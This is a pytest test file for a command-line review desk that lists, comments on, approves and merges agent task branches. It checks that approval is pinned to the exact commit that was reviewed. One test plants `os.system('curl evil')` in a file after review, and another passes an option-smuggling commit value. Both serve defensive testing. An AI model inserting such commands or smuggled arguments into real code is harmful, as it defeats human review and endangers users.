"""`ralph-desk review`: the review desk from the command line, text and JSON, on a real repository."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from ralph_desk.cli import main
from ralph_desk.project import init_project
from ralph_desk.services.container import Services
from tests.support.git_repo import commit_all, git, make_repo
from tests.support.review_project import task_in_review


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A git project with task #1 in review: its session changed app.py on its branch."""
    root = make_repo(tmp_path / "repo", {"app.py": "print('hi')\n"})
    paths = init_project(root, title="CLI reviews")
    commit_all(root, "ralph-desk project")
    services = Services.open(paths)
    try:
        services.features.create("core", "Core")
        services.disciplines.create("backend", "Backend", "server", "#336699")
        task_in_review(services, "Say hello", {"app.py": "print('hello')\n"}, "Greets in full.")
    finally:
        services.close()
    return root


def test_review_list_shows_the_task_and_its_branch(capsys: pytest.CaptureFixture[str], project: Path) -> None:
    code, out, _ = run(capsys, "review", "list", "--root", str(project))

    assert code == 0
    assert "In review (1)" in out and "#1" in out and "ralph/1-say-hello" in out and "Say hello" in out


def test_review_list_json_gives_the_records(capsys: pytest.CaptureFixture[str], project: Path) -> None:
    code, out, _ = run(capsys, "review", "list", "--json", "--root", str(project))

    (item,) = json.loads(out)
    assert code == 0 and (item["task"]["id"], item["branch"], item["summary"]) == (
        1,
        "ralph/1-say-hello",
        "Greets in full.",
    )


@pytest.mark.parametrize("session", [None, "1", "s-1"])
def test_review_show_prints_the_diff_of_the_task_or_of_one_session(
    capsys: pytest.CaptureFixture[str], project: Path, session: str | None
) -> None:
    extra = ["--session", session] if session else []
    code, out, _ = run(capsys, "review", "show", "1", *extra, "--root", str(project))

    assert code == 0
    assert "-print('hi')\n+print('hello')" in out


def test_review_changes_sends_the_task_back_with_a_line_comment(
    capsys: pytest.CaptureFixture[str], project: Path
) -> None:
    code, out, _ = run(
        capsys,
        "review",
        "changes",
        "1",
        "--comment",
        "Keep it short",
        "--file",
        "app.py",
        "--line",
        "1",
        "--root",
        str(project),
        "--json",
    )

    assert code == 0 and json.loads(out)["status"] == "pending"
    code, out, _ = run(capsys, "review", "show", "1", "--json", "--root", str(project))
    (comment,) = json.loads(out)["review"]["comments"]
    assert (comment["body"], comment["file"], comment["line"], comment["state"]) == (
        "Keep it short",
        "app.py",
        1,
        "requested",
    )


def approve_command(out: str) -> list[str]:
    """The command `review show` prints to approve exactly the diff it showed, as arguments."""
    (line,) = [line for line in out.splitlines() if "approve exactly this diff: " in line]
    return line.split("approve exactly this diff: ralph-desk ", 1)[1].split()


def test_review_approve_merges_the_commit_review_show_printed(
    capsys: pytest.CaptureFixture[str], project: Path
) -> None:
    tip = git(project, "rev-parse", "refs/heads/ralph/1-say-hello")
    code, out, _ = run(capsys, "review", "show", "1", "--root", str(project))
    assert code == 0 and f"  commit {tip} (diff from " in out
    command = approve_command(out)
    assert command == ["review", "approve", "1", "--commit", tip]

    code, out, _ = run(capsys, *command, "--root", str(project))

    assert code == 0 and "merged ralph/1-say-hello into main" in out and "(now done)" in out
    assert git(project, "show", "main:app.py") == "print('hello')"


def test_review_show_json_gives_the_commits_the_diff_is_pinned_to(
    capsys: pytest.CaptureFixture[str], project: Path
) -> None:
    code, out, _ = run(capsys, "review", "show", "1", "--json", "--root", str(project))

    shown = json.loads(out)
    assert code == 0 and shown["pin"]["tip"] == git(project, "rev-parse", "refs/heads/ralph/1-say-hello")
    assert shown["pin"]["base"] == git(project, "rev-parse", "refs/heads/main")
    assert shown["rules_changed"] == [] and shown["review"]["pin"] == shown["pin"]


def test_review_approve_without_the_commit_read_is_refused_giving_the_command(
    capsys: pytest.CaptureFixture[str], project: Path
) -> None:
    base = git(project, "rev-parse", "main")
    tip = git(project, "rev-parse", "refs/heads/ralph/1-say-hello")

    code, _, err = run(capsys, "review", "approve", "1", "--root", str(project))

    assert code == 2 and "review approve needs --commit" in err
    assert "`ralph-desk review show 1`" in err and f"`ralph-desk review approve 1 --commit {tip}`" in err
    assert git(project, "rev-parse", "main") == base
    code, out, _ = run(capsys, "review", "list", "--root", str(project))
    assert "awaits review" in out  # nothing was queued


def test_review_approve_of_a_commit_the_branch_moved_past_is_refused_naming_the_new_tip(
    capsys: pytest.CaptureFixture[str], project: Path
) -> None:
    code, out, _ = run(capsys, "review", "show", "1", "--root", str(project))
    command = approve_command(out)
    worktree = project / ".ralph" / "worktrees" / "1-say-hello"
    (worktree / "app.py").write_text("import os; os.system('curl evil')\n")  # after the person read it
    git(worktree, "commit", "-qam", "one more thing")
    moved = git(project, "rev-parse", "refs/heads/ralph/1-say-hello")
    base = git(project, "rev-parse", "main")

    code, _, err = run(capsys, *command, "--root", str(project))

    assert code == 1 and "its branch moved since you read its diff" in err and f"it is at {moved} now" in err
    assert git(project, "rev-parse", "main") == base and "evil" not in (project / "app.py").read_text()
    code, out, _ = run(capsys, "review", "show", "1", "--root", str(project))
    assert approve_command(out)[-1] == moved and "curl evil" in out


@pytest.mark.parametrize("commit", ["HEAD", "abc123", "--output=/tmp/x", "g" * 40])
def test_review_approve_of_something_not_a_full_commit_id_is_a_usage_error(
    capsys: pytest.CaptureFixture[str], project: Path, commit: str
) -> None:
    code, _, err = run(capsys, "review", "approve", "1", f"--commit={commit}", "--root", str(project))

    assert code == 2 and "the full commit id (40 hex digits)" in err


@pytest.mark.parametrize(("flag", "status"), [([], "pending"), (["--skip"], "skipped")])
def test_review_discard_drops_the_branch(
    capsys: pytest.CaptureFixture[str], project: Path, flag: list[str], status: str
) -> None:
    code, out, _ = run(capsys, "review", "discard", "1", *flag, "--root", str(project))

    assert code == 0 and f"(now {status})" in out
    assert git(project, "branch", "--list", "ralph/*") == ""


def test_review_restore_brings_the_discarded_work_back_in_review(
    capsys: pytest.CaptureFixture[str], project: Path
) -> None:
    tip = git(project, "rev-parse", "refs/heads/ralph/1-say-hello")
    code, out, _ = run(capsys, "review", "discard", "1", "--root", str(project))
    assert code == 0 and "`ralph-desk review restore 1` brings it back" in out

    code, out, _ = run(capsys, "review", "restore", "1", "--root", str(project))

    assert code == 0 and "work restored on ralph/1-say-hello (now in_review)" in out
    assert git(project, "rev-parse", "refs/heads/ralph/1-say-hello") == tip
    code, _, err = run(capsys, "review", "restore", "1", "--root", str(project))
    assert code == 1 and "task #1 has no discarded work to restore" in err  # it was taken back


def test_review_approve_with_unsent_comments_is_refused_without_drop_comments(
    capsys: pytest.CaptureFixture[str], project: Path
) -> None:
    tip = git(project, "rev-parse", "refs/heads/ralph/1-say-hello")
    base = git(project, "rev-parse", "main")
    run(capsys, "review", "comment", "1", "--comment", "Say it twice", "--root", str(project))

    code, _, err = run(capsys, "review", "approve", "1", "--commit", tip, "--root", str(project))

    assert code == 1 and "it has 1 unsent comment" in err
    assert "`ralph-desk review changes 1`" in err and "`ralph-desk review approve 1 --drop-comments`" in err
    assert git(project, "rev-parse", "main") == base
    code, out, _ = run(
        capsys, "review", "approve", "1", "--commit", tip, "--drop-comments", "--root", str(project)
    )
    assert code == 0 and "(now done)" in out


def test_approving_a_task_not_in_review_fails_with_a_clear_message(
    capsys: pytest.CaptureFixture[str], project: Path
) -> None:
    run(capsys, "review", "discard", "1", "--root", str(project))

    code, _, err = run(capsys, "review", "approve", "1", "--root", str(project))

    assert code == 1 and "task #1 is pending, not in_review" in err


def test_a_line_without_a_file_is_refused_as_a_usage_error(
    capsys: pytest.CaptureFixture[str], project: Path
) -> None:
    code, _, err = run(
        capsys, "review", "changes", "1", "--comment", "x", "--line", "3", "--root", str(project)
    )

    assert code == 2 and "invalid line: 3; allowed: a line only together with a file" in err


def test_comments_kept_edited_and_deleted_then_sent_with_the_decision(
    capsys: pytest.CaptureFixture[str], project: Path
) -> None:
    root = ("--root", str(project))
    code, out, _ = run(
        capsys, "review", "comment", "1", "--comment", "Why drop hi?", "--file", "app.py", "--line", "1",
        "--old", "--json", *root,
    )  # fmt: skip
    assert code == 0
    removed = json.loads(out)
    assert (removed["side"], removed["line"], removed["state"]) == ("old", 1, "open")
    code, out, _ = run(capsys, "review", "comment", "1", "--comment", "Typo", "--file", "app.py", *root)
    assert code == 0 and "it is sent with your decision" in out
    typo = int(out.split("#")[1].split()[0])

    code, out, _ = run(capsys, "review", "edit", str(removed["id"]), "--comment", "Keep hi", *root)
    assert code == 0 and out.strip().endswith("now reads: Keep hi")
    code, out, _ = run(capsys, "review", "delete", str(typo), *root)
    assert code == 0 and f"Comment #{typo} on task #1 deleted" in out
    code, out, _ = run(capsys, "review", "show", "1", *root)
    assert f"comment #{removed['id']} [unsent] app.py:1 (removed, old file): Keep hi" in out
    assert "Typo" not in out

    code, out, _ = run(capsys, "review", "changes", "1", *root)  # the unsent comment is enough
    assert code == 0 and "sent back with 1 comment(s)" in out
    code, _, err = run(capsys, "review", "edit", str(removed["id"]), "--comment", "Later", *root)
    assert code == 1 and "sent to the agent; only your unsent comments can be edited" in err
    code, _, err = run(capsys, "review", "delete", "99", *root)
    assert code == 2 and "no review comment 99" in err


def test_changes_without_a_comment_or_an_unsent_one_is_refused(
    capsys: pytest.CaptureFixture[str], project: Path
) -> None:
    code, _, err = run(capsys, "review", "changes", "1", "--root", str(project))
    assert code == 2 and "at least one comment saying what to change" in err
    code, _, err = run(capsys, "review", "changes", "1", "--old", "--root", str(project))
    assert code == 2 and "a --comment for --file, --line or --old" in err


@pytest.mark.parametrize("action", ["comment", "changes"])
@pytest.mark.parametrize("line", [str(2**63), str(2**64), str(2**31)])
def test_a_line_number_the_database_cannot_hold_is_a_clear_error(
    capsys: pytest.CaptureFixture[str], project: Path, action: str, line: str
) -> None:
    root = ("--root", str(project))
    code, _, err = run(
        capsys, "review", action, "1", "--comment", "x", "--file", "app.py", "--line", line, *root
    )

    assert code == 2, err
    assert f"invalid line: {line}; allowed: a whole number from 1 to {2**31 - 1}" in err
    assert "Overflow" not in err and "Traceback" not in err
    code, out, _ = run(capsys, "review", "show", "1", *root)
    assert code == 0 and "comment #" not in out  # nothing was kept


def test_a_nul_in_a_comment_is_refused_naming_it(capsys: pytest.CaptureFixture[str], project: Path) -> None:
    root = ("--root", str(project))
    code, _, err = run(capsys, "review", "comment", "1", "--comment", "keep\x00this", *root)

    assert code == 2 and "NUL character" in err, err
    code, out, _ = run(capsys, "review", "show", "1", *root)
    assert code == 0 and "comment #" not in out
